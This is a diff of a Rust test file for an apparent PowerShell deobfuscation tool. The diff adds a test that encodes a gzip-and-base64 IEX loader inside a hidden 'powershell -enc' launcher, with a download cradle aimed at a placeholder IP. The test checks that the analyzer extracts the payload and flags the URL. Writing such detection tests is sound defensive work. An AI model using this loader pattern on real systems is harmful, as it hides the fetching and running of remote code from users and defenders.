@@ -9,7 +9,8 @@ const URL: &str = "http://198.51.100.9/a";
 fn all_text(s: &str) -> (String, Vec<String>) {
     let a = analyze(s, &AnalyzeOptions::default());
     let urls = a.ioc_values(IocKind::Url).into_iter().map(str::to_string).collect();
-    (a.final_layer().to_string(), urls)
+    // Blob payloads are kept apart from the script layers: read the deepest text.
+    (a.deepest().to_string(), urls)
 }
 
 fn utf16_b64(s: &str) -> String {
@@ -114,6 +115,41 @@ fn compressed_and_encoded_launchers() {
 }
 
 #[test]
+fn embedded_blobs_become_payloads_of_the_final_layer() {
+    use std::io::Write;
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(CRADLE.as_bytes()).unwrap();
+    let gz = base64::engine::general_purpose::STANDARD.encode(e.finish().unwrap());
+    let script = format!(
+        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gz}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();"
+    );
+    // Launched as `powershell -enc`: the decoded launcher is the final layer, the gzip blob a
+    // payload with its own chain, and its URL still an indicator.
+    let a = analyze(
+        &format!("powershell -w hidden -enc {}", utf16_b64(&script)),
+        &AnalyzeOptions::default(),
+    );
+    assert_eq!(a.layers.len(), 2, "{:?}", a.layers);
+    assert_eq!(a.final_layer(), script);
+    assert_eq!(a.payloads.len(), 1);
+    let p = &a.payloads[0];
+    assert_eq!(p.found_in, 1);
+    assert!(p.technique.contains("gzip"), "{}", p.technique);
+    assert_eq!(p.layers[0].depth, 2);
+    assert_eq!(p.final_text(), CRADLE);
+    let url = a.iocs.iter().find(|i| i.kind == IocKind::Url && i.value == URL).unwrap();
+    assert_eq!(url.layer, 2);
+    assert!(a.behaviours.iter().any(|b| b.attack_technique == "T1105"));
+    // A child PowerShell started by the decoded script is a payload too.
+    let child = format!("PowerShell -ExecutionPolicy bypass -command {CRADLE}");
+    let a = analyze(&format!("powershell -enc {}", utf16_b64(&child)), &AnalyzeOptions::default());
+    assert_eq!(a.final_layer(), child);
+    assert_eq!(a.deepest(), CRADLE);
+    let text = bulwark_scripts::render_text(&a);
+    assert!(text.contains("## Payload 1 (decoded from layer 1)"), "{text}");
+}
+
+#[test]
 fn variable_tracking_forms() {
     assert_recovers(
         "Set-Item Variable:/q ('Write-'+'Host x'); IEX (Get-Variable q -ValueOnly)",
@@ -156,7 +192,7 @@ fn other_languages() {
     for (src, lang, needle) in cases {
         let a = analyze(src, &AnalyzeOptions::default());
         assert_eq!(a.language, lang, "{src}");
-        assert!(a.final_layer().contains(needle), "{src}\n=> {}", a.final_layer());
+        assert!(a.deepest().contains(needle), "{src}\n=> {}", a.deepest());
     }
 }
 
